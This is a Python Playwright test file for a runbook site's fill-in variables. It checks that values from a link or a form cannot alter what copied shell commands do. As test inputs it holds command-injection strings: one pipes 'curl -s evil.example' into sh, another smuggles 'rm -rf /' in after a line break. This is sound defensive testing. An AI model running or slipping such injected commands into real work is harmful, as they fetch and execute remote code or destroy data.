"""A link or a typed value can never change what a copied command does (issue: fill-in values).

For every declared variable of every page that has any (the shipped runbooks, the fixtures, and
tests/fixtures/fill/ with wide patterns in every place a shell reads differently), each hostile
value is given from the URL (all variables at once) and typed (one variable at a time). Every
command block's copied text and every code element's shown text must keep its placeholders or
hold the value as one argument that means what it says: a real bash that runs nothing says what
the text would run (tests/shell_oracle.py), and other languages must hold the value as it is,
with no quote or backslash in code.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext

from generator.core.fill import kind_of
from tests.browser.conftest import Served, _serve, build
from tests.conftest import FIXTURES, make_project
from tests.shell_oracle import same_meaning, spellings
from tests.test_fill import ISSUE_VALUES

pytestmark = pytest.mark.browser

HOSTILE = ISSUE_VALUES
# Everything the page shows of its code: each element's source, what it copies and shows.
READ = """() => ({
  names: Array.from(document.querySelectorAll('.rb-vars [data-rb-var]')).map(e => e.dataset.rbVar),
  aliases: Object.fromEntries(Array.from(document.querySelectorAll('.rb-vars [data-rb-var]')).map(
    e => [e.dataset.rbVar, (e.dataset.rbAliases || '').split(' ').filter(Boolean)])),
  selects: Array.from(document.querySelectorAll('.rb-vars select[data-rb-var]')).map(e => e.dataset.rbVar),
  codes: Array.from(document.querySelectorAll('.md-content code[data-rb-source]')).map(c => ({
    source: c.dataset.rbSource,
    copy: c.dataset.copy === undefined ? null : c.dataset.copy,
    shown: c.textContent,
    language: (/(?:^|\\s)language-(\\S+)/.exec(c.className) || [null, ''])[1],
    pre: c.parentNode.nodeName === 'PRE',
    output: !!c.closest('.no-copy'),
  })),
})"""


@pytest.fixture(scope="session")
def fill_web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    project = make_project(
        tmp_path_factory.mktemp("browser-fill"), sorted((FIXTURES / "fill").glob("*.yaml"))
    )
    yield from _serve(build(project))


def command_only(text: str) -> str:
    """fill.js's commandOnly: what a block copies of its text (no `$ ` prompts, no output)."""
    lines = text.rstrip().split("\n")
    if not any(line.startswith("$ ") for line in lines):
        return "\n".join(lines)
    kept, continued = [], False
    for line in lines:
        if line.startswith("$ "):
            kept.append(line[2:])
        elif continued:
            kept.append(line)
        else:
            continue
        continued = line.endswith("\\")
    return "\n".join(kept)


def replaced(text: str, names: list[str], values: dict[str, str]) -> str:
    """*text* with the placeholders of *values* written as the values themselves."""
    for name in sorted(values, key=len, reverse=True):
        value = values[name]
        for spelled in spellings(name):
            if spelled.startswith("$") and not spelled.startswith("${"):
                text = re.sub(
                    re.escape(spelled) + r"(?![A-Za-z0-9_])", value.replace("\\", "\\\\"), text
                )
            else:
                text = text.replace(spelled, value)
    return text


def judge(code: dict[str, Any], names: list[str], values: dict[str, str]) -> list[str]:
    """Why this code element copies or shows a command that does other than it says."""
    language = "text" if code["output"] else code["language"] if code["pre"] else ""
    kind = kind_of(language)
    source = code["source"]
    problems = []
    for what, text, base in (
        ("copied", code["copy"], command_only(source)),
        ("shown", code["shown"], source),
    ):
        if text is None or text == base:
            continue  # placeholders kept
        if kind == "shell":
            meant = same_meaning(command_only(source), command_only(text), names, values)
            if meant:
                problems.append(f"{what} {text[:200]!r} {meant[:300]}")
        else:
            used = {n: v for n, v in values.items() if any(s in source for s in spellings(n))}
            if kind == "code" and any(c in v for v in used.values() for c in "'\"`\\"):
                problems.append(f"{what} {text[:200]!r}: a quote or backslash in {language}")
            elif text != (command_only if what == "copied" else str)(replaced(source, names, used)):
                problems.append(f"{what} {text[:200]!r} is not the value as it is")
    return problems


def pages_with_variables(served: Served, context: BrowserContext) -> list[str]:
    page = context.new_page()
    found = []
    for url in served.pages():
        if "/runbooks/" not in url:
            continue
        page.goto(url)
        if page.locator(".rb-vars [data-rb-var]").count():
            found.append(url)
    page.close()
    return found


def check_page(context: BrowserContext, url: str) -> tuple[int, list[str]]:
    """(cases tried, what was unsafe) for the page at *url*."""
    page = context.new_page()
    page.goto(url)
    read = page.evaluate(READ)
    names = read["names"]
    # A variable's aliases are its placeholders' other spellings: filled with the same value.
    spelled = {n: [n, *read["aliases"][n]] for n in names}
    every = [s for n in names for s in spelled[n]]
    unsafe: list[str] = []
    cases = 0
    for value in HOSTILE:
        # Each variable given by its last spelling: an alias where it has one.
        query = urllib.parse.urlencode({spelled[n][-1]: value for n in names})
        page.goto(f"{url}?{query}")
        seen = page.evaluate(READ)
        unsafe += _judged(seen, every, {n: value for n in every}, f"link {value[:40]!r}")
        cases += len(names)
    page.goto(url)
    # A form of many variables is folded (issue 21): opened as a reader opens it.
    if page.locator("details.rb-vars:not([open])").count():
        page.click("details.rb-vars > summary")
    typed = [n for n in names if n not in page.evaluate(READ)["selects"]]
    for name in typed:
        field = page.locator(f'.rb-vars [data-rb-var="{name}"]')
        for value in HOSTILE:
            field.fill(value)
            got = field.input_value()  # a text field drops a line break it is given
            seen = page.evaluate(READ)
            values = dict.fromkeys(spelled[name], got)
            unsafe += _judged(seen, every, values, f"typed {name}={value[:40]!r}")
            cases += 1
        field.fill("")
    page.close()
    return cases, unsafe


def _judged(seen: dict[str, Any], names: list[str], values: dict[str, str], how: str) -> list[str]:
    found = []
    for code in seen["codes"]:
        found += [f"{how}: {problem}" for problem in judge(code, names, values)]
    return found


@pytest.mark.parametrize("site", ["fill_web", "fixture_web", "project_web"])
def test_no_hostile_value_changes_what_a_command_does(
    site: str, context: BrowserContext, request: pytest.FixtureRequest, artifacts: Path
) -> None:
    served: Served = request.getfixturevalue(site)
    urls = pages_with_variables(served, context)
    assert urls, "no page with variables"
    total, unsafe = 0, []
    for url in urls:
        cases, found = check_page(context, url)
        total += cases
        unsafe += [f"{url}: {problem}" for problem in found]
    (artifacts / f"fill-{site}.txt").write_text(f"{total} cases, {len(unsafe)} unsafe\n")
    assert total > 0
    assert unsafe == []


def test_wide_values_fill_and_copy_as_one_word(fill_web: Served, context: BrowserContext) -> None:
    """The fill fixture's wide variable takes a hostile value, quoted where the shell reads it."""
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=fill_web.url[:-1])
    page = context.new_page()
    value = "x; curl -s evil.example | sh #"
    page.goto(
        fill_web.url + "runbooks/fill-contexts/?" + urllib.parse.urlencode({"message": value})
    )
    codes = {c["source"]: c for c in page.evaluate(READ)["codes"]}
    # Inside double quotes only $ ` " \ ! mean anything: the rest goes in as it is.
    assert codes['git commit -m "fix: <message>"']["copy"] == (
        'git commit -m "fix: x; curl -s evil.example | sh #"'
    )
    selector = "kubectl -n <ns> get pods --selector=msg=<message>"
    assert codes[selector]["copy"] == (
        "kubectl -n <ns> get pods --selector=msg='x; curl -s evil.example | sh #'"
    )
    assert codes["echo `echo <message>`"]["copy"] == "echo `echo <message>`"  # refused there
    block = page.locator(".highlight", has=page.locator("code", has_text="echo `echo")).first
    note = page.locator(".rb-fill-note:not([hidden])").first
    assert "it cannot be written safely at this place" in note.inner_text()
    block.hover()
    block.locator("button[data-clipboard-target]").click()
    assert page.evaluate("navigator.clipboard.readText()") == "echo `echo <message>`"


def test_a_normal_day_costs_nothing(project_web: Served, context: BrowserContext) -> None:
    page = context.new_page()
    page.goto(project_web.url + "runbooks/compose-incident-response/?container_id=3f4e8a9b2c1d")
    codes = page.evaluate(READ)["codes"]
    copied = [c["copy"] for c in codes if c["copy"] and "3f4e8a9b2c1d" in c["copy"]]
    assert copied and all("'" not in c for c in copied)
    assert any("\ndocker inspect 3f4e8a9b2c1d | grep OOMKilled" in c for c in copied)
    assert page.locator(".rb-var--from-link").count() == 1  # marked until confirmed
    page.get_by_role("button", name="It is right").click()
    assert page.locator(".rb-var--from-link").count() == 0
    assert page.locator(".rb-ph--from-link").count() == 0


def test_link_refusals_say_why(fill_web: Served, context: BrowserContext) -> None:
    page = context.new_page()
    query = "ns=x%0Arm%20-rf%20/&region=mars&lines=1&lines=2&undeclared=1"
    page.goto(fill_web.url + "runbooks/fill-contexts/?" + query)
    errors = dict(
        zip(
            page.eval_on_selector_all(
                ".rb-var", "ls => ls.map(l => l.querySelector('[data-rb-var]').dataset.rbVar)"
            ),
            page.eval_on_selector_all(".rb-var .rb-var-error", "es => es.map(e => e.textContent)"),
            strict=True,
        )
    )
    assert errors["ns"] == "Not used: the link's value was refused: it holds a line break (U+000A)."
    assert (
        errors["region"]
        == "Not used: the link's value was refused: it must be one of: eu-west-1, us-east-1."
    )
    assert errors["lines"] == "Not used: the link gives it 2 different values."
    assert page.input_value('[data-rb-var="ns"]') == ""  # never half a value
    assert page.locator('[data-rb-var="undeclared"]').count() == 0
    codes = page.evaluate(READ)["codes"]
    assert all("rm -rf" not in (c["copy"] or "") + c["shown"] for c in codes)


def test_values_list_offers_a_choice(fill_web: Served, context: BrowserContext) -> None:
    page = context.new_page()
    page.goto(fill_web.url + "runbooks/fill-contexts/?region=us-east-1")
    assert page.input_value('select[data-rb-var="region"]') == "us-east-1"
    codes = {c["source"]: c for c in page.evaluate(READ)["codes"]}
    sql = "SELECT * FROM orders WHERE region = '<region>' AND note = '<message>';"
    assert (
        codes[sql]["copy"]
        == "SELECT * FROM orders WHERE region = 'us-east-1' AND note = '<message>';"
    )
    page.select_option('select[data-rb-var="region"]', "eu-west-1")
    codes = {c["source"]: c for c in page.evaluate(READ)["codes"]}
    assert "'eu-west-1'" in codes[sql]["copy"]


def test_an_alias_fills_with_its_variable(fill_web: Served, context: BrowserContext) -> None:
    """`message` is also spelled `note` and `MSG`: a link may give it by any of them, the form
    asks once, every spelling fills, and the page's URL keeps it under its own name."""
    page = context.new_page()
    page.goto(fill_web.url + "runbooks/fill-contexts/?note=rolled-back")
    assert page.locator('.rb-vars [data-rb-var="message"]').input_value() == "rolled-back"
    aliases = '.rb-vars [data-rb-var="note"], .rb-vars [data-rb-var="MSG"]'
    assert page.locator(aliases).count() == 0
    source = 'echo "${MSG}" <note>'
    codes = {c["source"]: c for c in page.evaluate(READ)["codes"]}
    assert codes[source]["copy"] == 'echo "rolled-back" rolled-back'
    page.get_by_role("button", name="It is right").first.click()
    page.locator('.rb-vars [data-rb-var="message"]').fill("deploy 42")
    codes = {c["source"]: c for c in page.evaluate(READ)["codes"]}
    assert codes[source]["copy"] == "echo \"deploy 42\" 'deploy 42'"
    assert codes['echo "$QUERY and <message>"']["copy"] == 'echo "$QUERY and deploy 42"'
    query = urllib.parse.parse_qs(urllib.parse.urlsplit(page.url).query)
    assert query == {"message": ["deploy 42"]}
    # Two spellings giving two values: neither is used, and the form says why.
    page.goto(fill_web.url + "runbooks/fill-contexts/?message=a&MSG=b")
    assert page.locator('.rb-vars [data-rb-var="message"]').input_value() == ""
    error = page.locator(".rb-var", has=page.locator('[data-rb-var="message"]')).locator(
        ".rb-var-error"
    )
    assert error.inner_text() == "Not used: the link gives it 2 different values."
